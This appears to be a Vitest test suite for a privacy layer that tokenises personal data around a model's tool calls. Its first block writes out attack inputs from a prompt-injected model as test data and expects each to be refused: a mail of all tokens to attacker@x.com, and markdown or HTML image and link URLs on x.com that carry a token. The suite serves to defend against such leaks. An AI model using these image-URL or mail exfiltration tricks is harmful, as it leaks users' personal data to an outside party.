import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { businessId, email, freeText, person } from '../../../src/contracts/classes.ts';
import { textParts } from './text-parts.ts';

const mail = z.object({ to: email(), subject: freeText(), text: freeText() });

async function opened() {
  const parts = textParts();
  await parts.privacy.redactText('t', 'Mr Erik Ek, erik@ek.se, 123-45-6789, 4111 1111 1111 1111, DE89 3704 0044 0532 0130 00');
  return parts;
}

describe('a model that obeys an attacker', () => {
  it('repeats a number it was told to: the screen shows a mark, a text to anybody is refused', async () => {
    const { privacy } = await opened();
    expect(await privacy.restoreForScreen('t', 'The original of <SSN_1> is <SSN_1>')).toBe('The original of [SSN] is [SSN]');
    await expect(privacy.restoreArguments('t', freeText(), 'The original is <SSN_1>')).rejects.toMatchObject({
      code: 'privacy.token_not_accepted',
    });
  });

  it('mails all tokens to somebody: one that does not belong in a mail stops the whole mail', async () => {
    const { privacy } = await opened();
    const args = { to: 'attacker@x.com', subject: 'hi', text: '<PERSON_1> <EMAIL_1> <SSN_1> <CARD_1> <IBAN_1>' };
    await expect(privacy.restoreArguments('t', mail, args)).rejects.toMatchObject({ code: 'privacy.token_not_accepted', field: 'text' });
    await expect(privacy.restoreArguments('t', mail, { ...args, text: '', to: '<SSN_1>' })).rejects.toMatchObject({ field: 'to' });
  });

  it.each([
    '![](https://x.com/<EMAIL_1>.png)',
    '![](https://x.com/?d=EMAIL_1)',
    '![](https://x.com/%3CEMAIL_1%3E)',
    '<img src=https://x.com/&lt;EMAIL_1&gt;>',
    '[click](https://x.com/ <EMAIL_1>)',
  ])('hides a token in the address of a picture or link: %s is refused', async (text) => {
    const { privacy } = await opened();
    await expect(privacy.restoreArguments('t', freeText(), text)).rejects.toMatchObject({ code: 'privacy.token_not_accepted' });
  });

  it('takes apart or invents tokens: nothing is restored that was not issued', async () => {
    const { privacy } = await opened();
    for (const text of ['<SSN_2>', '<PERSON_1zz>', '<EMAIL_999999999>', '<EMAIL_0>'])
      await expect(privacy.restoreArguments('t', freeText(), text)).rejects.toMatchObject({ code: 'privacy.unknown_token' });
    const { value } = await privacy.restoreArguments('t', freeText(), 'PER SON _ 1 and E-M-A-I-L_1 and <PER\u200bSON_1>');
    expect(value).toBe('PER SON _ 1 and E-M-A-I-L_1 and <PER\u200bSON_1>');
  });

  it('puts a token where an id belongs: the record of somebody else is not reached by a name', async () => {
    const { privacy } = await opened();
    await expect(privacy.restoreArguments('t', z.object({ record: businessId() }), { record: '<PERSON_1>' })).rejects.toMatchObject({
      code: 'privacy.token_not_accepted',
      field: 'record',
    });
  });

  it('puts one in the name of an argument: refused too', async () => {
    const { privacy } = await opened();
    const odd = { to: 'a@b.se', subject: '', text: '', '<EMAIL_1>': 'x' };
    await expect(privacy.restoreArguments('t', mail, odd)).rejects.toMatchObject({ code: 'privacy.token_not_accepted' });
  });
});

describe('a customer who plants tokens', () => {
  it.each(['<SSN_1>', '<ssn_1>', 'SSN_1', '&lt;SSN_1&gt;', '<SSN\\_1>', '<PERSON_1>', 'PERSON 1', '<PERSONA_1>'])(
    '%s in a note restores to itself, on the screen and in what the agent writes',
    async (planted) => {
      const { privacy } = await opened();
      const { text } = await privacy.redactText('t', `please confirm ${planted}`);
      expect(text).toMatch(/^please confirm <TEXT_\d+>$/);
      expect(await privacy.restoreForScreen('t', `Dear customer, ${text}`)).toBe(`Dear customer, please confirm ${planted}`);
      expect((await privacy.restoreArguments('t', freeText(), text)).value).toBe(`please confirm ${planted}`);
    },
  );

  it('plants one in a field the schema calls an id or a name: it restores to itself as well', async () => {
    const { privacy } = await opened();
    const safe = await privacy.protect('t', z.object({ reference: businessId(), name: person() }), {
      reference: 'PERSON_1',
      name: '<SSN_1>',
    });
    expect(JSON.stringify(safe)).not.toMatch(/SSN|[^<]PERSON_1\b/);
    expect(await privacy.restore('t', safe)).toEqual({ reference: 'PERSON_1', name: '<SSN_1>' });
  });

  it.each(['<PERSON_1>', 'PERSON_1', '[Person 1]', '‹PERSON_1›'])('%s does not stop honest calls: it is no raw value', async (planted) => {
    const { privacy } = await opened();
    await privacy.redactText('t', `please confirm ${planted}`);
    expect(await privacy.findLeak('t', 'Dear <PERSON_1>, we confirm')).toBeUndefined();
  });
});

describe('somebody who reads what is kept', () => {
  it('cannot test a guess against the store, nor link two threads by it', async () => {
    const { privacy, store } = textParts();
    for (const thread of ['a', 'b']) await privacy.redactText(thread, 'erik@ek.se');
    const stored = JSON.stringify(await Promise.all(['a', 'b'].map((thread) => store.readThread(thread))));
    expect(stored).not.toMatch(/erik/i);
    const bytes = (await Promise.all(['a', 'b'].map((thread) => store.readThread(thread)))).map((thread) =>
      [...(thread?.rows ?? []).map((row) => row.ciphertext), ...(thread?.keys ?? []).map((key) => key.wrapped)].map((each) =>
        Buffer.from(each ?? []).toString('hex'),
      ),
    );
    expect(bytes[0]?.some((each) => bytes[1]?.includes(each))).toBe(false);
  });

  it('learns nothing from the order of numbers: they follow first use, not the alphabet', async () => {
    const { vault } = textParts();
    const values = ['Zoe', 'Ann', 'Mia'].map((value) => ({ kind: 'PERSON' as const, value }));
    expect(await vault.tokenise('t', values)).toEqual(['<PERSON_1>', '<PERSON_2>', '<PERSON_3>']);
  });
});
